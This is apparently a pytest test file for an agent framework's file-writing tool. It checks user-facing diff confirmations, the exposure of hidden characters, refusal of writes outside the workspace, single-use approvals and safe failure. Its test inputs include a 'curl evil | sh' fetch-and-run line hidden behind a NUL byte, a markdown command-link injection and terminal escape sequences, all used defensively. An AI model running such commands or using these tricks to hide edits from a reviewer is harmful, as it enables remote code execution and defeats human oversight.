import asyncio
import os
import stat
import threading
from pathlib import Path

import pytest

from dragoman.lm import CancellationError, CancellationSource
from dragoman.tools.builtin.edit import write_file
from dragoman.tools.builtin.workspace import WorkspaceError
from tool_calls import DEADLINE, Workbench, text


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "workspace"
    folder.mkdir()
    return folder


@pytest.fixture
def writing(folder: Path) -> Workbench:
    return Workbench(write_file(), folder)


def _names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def _message(prepared: object) -> str:
    confirmation = getattr(prepared, "confirmation", None)
    assert confirmation is not None
    return str(confirmation.message)


class TestQuestion:
    async def test_a_change_is_shown_as_a_diff(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one\ntwo\nthree\n")
        prepared = await writing.ask(path="a.txt", content="one\n2\nthree\n")
        assert prepared.confirmation is not None
        assert prepared.confirmation.title == "Change a.txt?"
        assert prepared.confirmation.message == (
            "`a.txt`\n\n```diff\n--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n```"
        )
        assert prepared.invocation_message == "Writing a.txt"

    async def test_a_new_file(self, writing: Workbench) -> None:
        prepared = await writing.ask(path="new/a.txt", content="one\n")
        assert prepared.confirmation is not None
        assert prepared.confirmation.title == "Make new/a.txt?"
        assert "--- /dev/null\n+++ b/new/a.txt\n@@ -0,0 +1 @@\n+one\n" in prepared.confirmation.message

    async def test_a_missing_end_of_line_is_shown(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one")
        message = _message(await writing.ask(path="a.txt", content="one\n"))
        assert "-one\n\\ No newline at end of file\n+one\n" in message

    async def test_nothing_gets_out_of_the_fence(self, writing: Workbench) -> None:
        message = _message(await writing.ask(path="a.md", content="```\n[x](command:evil)\n"))
        assert message.count("````") == 2
        assert message.endswith("\n````")

    async def test_what_would_hide_is_made_visible(self, writing: Workbench) -> None:
        prepared = await writing.ask(path="a\x1b.txt", content="\x1b[2J\u202e\u3164\r\n")
        assert prepared.confirmation is not None
        assert "\x1b" not in prepared.confirmation.title + prepared.confirmation.message
        assert "+␛[2J<U+202E><U+3164>␍\n" in prepared.confirmation.message

    async def test_no_change(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one")
        assert "Nothing in it would change" in _message(await writing.ask(path="a.txt", content="one"))

    async def test_a_byte_order_mark_is_a_change(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_bytes(b"\xef\xbb\xbfone")
        assert "-<U+FEFF>one" in _message(await writing.ask(path="a.txt", content="one"))

    @pytest.mark.parametrize("old", [b"\0\0\0", b"# caf\xe9\n"])
    async def test_an_old_file_that_is_no_text_does_not_hide_the_new_one(
        self, writing: Workbench, folder: Path, old: bytes
    ) -> None:
        (folder / "a.py").write_bytes(old)
        message = _message(await writing.ask(path="a.py", content="import os\nos.abort()\n"))
        assert f"What it replaces, {len(old)} bytes, is not text in UTF-8 and is not shown." in message
        assert "@@ -0,0 +1,2 @@\n+import os\n+os.abort()\n```" in message

    @pytest.mark.parametrize("padding", [0, 9_000])
    async def test_a_nul_that_would_hide_the_rest_is_refused(
        self, writing: Workbench, folder: Path, padding: int
    ) -> None:
        with pytest.raises(WorkspaceError, match="NUL"):
            await writing.ask(path="a.sh", content="#" * padding + "\0\ncurl evil | sh\n")
        assert _names(folder) == []

    async def test_a_write_protected_file_is_said_to_be_one(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one")
        assert "write-protected" not in _message(await writing.ask(path="a.txt", content="two"))
        (folder / "a.txt").chmod(0o444)
        message = _message(await writing.ask(path="a.txt", content="two"))
        assert "It is write-protected (mode 444), and would be replaced all the same." in message

    async def test_other_names_of_a_file_are_mentioned(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one")
        assert "hard links" not in _message(await writing.ask(path="a.txt", content="two"))
        (folder / "b.txt").hardlink_to(folder / "a.txt")
        message = _message(await writing.ask(path="a.txt", content="two"))
        assert "It has 2 names (hard links); the others would keep the old content." in message

    async def test_what_hides_too_much_is_always_permission_requested(self, writing: Workbench) -> None:
        assert not (await writing.ask(path="a.txt", content="x" * 100_000)).always_ask
        assert (await writing.ask(path="a.txt", content="x" * 200_000)).always_ask

    async def test_an_approval_that_lasts_is_for_the_path(self, writing: Workbench, folder: Path) -> None:
        (folder / "link").symlink_to("a.txt")
        keys = {
            (await writing.ask(path=path, content=content)).approval_key
            for path in ("a.txt", "./a.txt", str(folder / "a.txt"), "link")
            for content in ("one", "two")
        }
        assert keys == {str(folder / "a.txt")}
        assert (await writing.ask(path="link", content="one")).covers == "any change to a.txt"

    @pytest.mark.parametrize(
        ("path", "why"),
        [
            ("../a.txt", "outside the workspace"),
            ("link/a.txt", "outside the workspace"),
            (".", "is a folder"),
            ("file/below", "Not a directory"),
        ],
    )
    async def test_what_cannot_be_written_is_not_asked(
        self, writing: Workbench, folder: Path, path: str, why: str
    ) -> None:
        (folder / "link").symlink_to(folder.parent)
        (folder / "file").touch()
        with pytest.raises(WorkspaceError, match=why):
            await writing.ask(path=path, content="")


class TestWriting:
    async def test_a_new_file_in_new_folders(self, writing: Workbench, folder: Path) -> None:
        assert await writing.said(path="new/deep/a.txt", content="é\n") == "Made new/deep/a.txt, 3 bytes."
        assert (folder / "new/deep/a.txt").read_bytes() == "é\n".encode()

    async def test_a_new_file_has_the_usual_mode(self, writing: Workbench, folder: Path) -> None:
        (folder / "usual").touch()
        await writing.said(path="a.txt", content="")
        assert (folder / "a.txt").stat().st_mode == (folder / "usual").stat().st_mode

    async def test_a_change_keeps_the_mode_and_leaves_nothing_beside(
        self, writing: Workbench, folder: Path
    ) -> None:
        (folder / "run.sh").write_text("one")
        (folder / "run.sh").chmod(0o750)
        assert await writing.said(path="run.sh", content="two") == "Wrote run.sh, 3 bytes."
        assert (folder / "run.sh").read_text() == "two"
        assert stat.S_IMODE((folder / "run.sh").stat().st_mode) == 0o750
        assert _names(folder) == ["run.sh"]

    async def test_line_ends_are_written_as_they_are(self, writing: Workbench, folder: Path) -> None:
        await writing.said(path="a.txt", content="one\r\ntwo\n")
        assert (folder / "a.txt").read_bytes() == b"one\r\ntwo\n"

    async def test_a_link_inside_is_followed_and_stays(self, writing: Workbench, folder: Path) -> None:
        (folder / "a.txt").write_text("one")
        (folder / "link").symlink_to("a.txt")
        assert await writing.said(path="link", content="two") == "Wrote a.txt, 3 bytes."
        assert (folder / "link").is_symlink()
        assert (folder / "a.txt").read_text() == "two"

    @pytest.mark.parametrize("content", ["two", ""])
    @pytest.mark.parametrize("before", ["one", None])
    @pytest.mark.parametrize("meanwhile", ["changed", None])
    async def test_only_over_what_was_shown(
        self, writing: Workbench, folder: Path, before: str | None, meanwhile: str | None, content: str
    ) -> None:
        path = folder / "a.txt"
        if before is not None:
            path.write_text(before)
        invocation = writing.invocation(path="a.txt", content=content)
        await writing.prepare(invocation)
        if meanwhile is not None:
            path.write_text(meanwhile)
        elif before is not None:
            path.unlink()
        result = await writing.invoke(invocation)
        if before == meanwhile:
            assert not result.is_error
            return
        assert text(result) == (
            "a.txt was not written: it is not what it was when the change was shown. Read it again first."
        )
        assert (path.read_text() if path.exists() else None) == meanwhile
        assert _names(folder) == ([] if meanwhile is None else ["a.txt"])

    async def test_no_folder_is_made_for_what_is_not_written(self, writing: Workbench, folder: Path) -> None:
        (folder / "sub").mkdir()
        (folder / "sub/a.txt").write_text("one")
        invocation = writing.invocation(path="sub/a.txt", content="two")
        await writing.prepare(invocation)
        (folder / "sub/a.txt").unlink()
        (folder / "sub").rmdir()
        assert "is not what it was when the change was shown" in text(await writing.invoke(invocation))
        assert _names(folder) == []

    async def test_a_link_that_leads_elsewhere_meanwhile(self, writing: Workbench, folder: Path) -> None:
        (folder / "a").write_text("same")
        (folder / "b").write_text("same")
        (folder / "link").symlink_to("a")
        invocation = writing.invocation(path="link", content="new")
        await writing.prepare(invocation)
        (folder / "link").unlink()
        (folder / "link").symlink_to("b")
        assert (await writing.invoke(invocation)).is_error
        assert (folder / "b").read_text() == "same"

    async def test_a_link_that_leads_out_meanwhile(self, writing: Workbench, folder: Path) -> None:
        (folder / "sub").mkdir()
        invocation = writing.invocation(path="sub/a.txt", content="new")
        await writing.prepare(invocation)
        (folder / "sub").rmdir()
        (folder / "sub").symlink_to(folder.parent)
        result = await writing.invoke(invocation)
        assert text(result).startswith("Not written. sub/a.txt is outside the workspace")
        assert not (folder.parent / "a.txt").exists()

    async def test_not_without_a_look_at_it(self, writing: Workbench, folder: Path) -> None:
        result = await writing.invoke(writing.invocation(path="a.txt", content="one"))
        assert "the user was not shown what would change" in text(result)
        assert result.is_error
        assert not (folder / "a.txt").exists()

    async def test_a_look_is_good_for_one_write(self, writing: Workbench) -> None:
        invocation = writing.invocation(path="a.txt", content="one")
        await writing.prepare(invocation)
        assert not (await writing.invoke(invocation)).is_error
        assert (await writing.invoke(invocation)).is_error

    async def test_a_failing_disk_leaves_the_old_file(
        self, writing: Workbench, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        (folder / "a.txt").write_text("one")

        def fail(_descriptor: int) -> None:
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", fail)
        complaint = await writing.complaint(path="a.txt", content="two")
        assert complaint == "Not written. a.txt: No space left on device."
        assert (folder / "a.txt").read_text() == "one"
        assert _names(folder) == ["a.txt"]

    async def test_cancelled_before_it_began(self, writing: Workbench, folder: Path) -> None:
        invocation = writing.invocation(path="a.txt", content="one")
        await writing.prepare(invocation)
        source = CancellationSource()
        source.cancel()
        with pytest.raises(CancellationError):
            await writing.invoke(invocation, source.token)
        assert not (folder / "a.txt").exists()

    async def test_cancelled_when_it_has_begun(
        self, writing: Workbench, folder: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        invocation = writing.invocation(path="a.txt", content="one")
        await writing.prepare(invocation)
        loop = asyncio.get_running_loop()
        begun = asyncio.Event()
        go_on = threading.Event()
        real = os.fsync

        def slow(descriptor: int) -> None:
            loop.call_soon_threadsafe(begun.set)
            assert go_on.wait(DEADLINE)
            real(descriptor)

        monkeypatch.setattr(os, "fsync", slow)
        call = asyncio.create_task(writing.invoke(invocation))
        async with asyncio.timeout(DEADLINE):
            await begun.wait()
            call.cancel()
            loop.call_soon(go_on.set)
            with pytest.raises(asyncio.CancelledError):
                await call
        assert (folder / "a.txt").read_text() == "one"
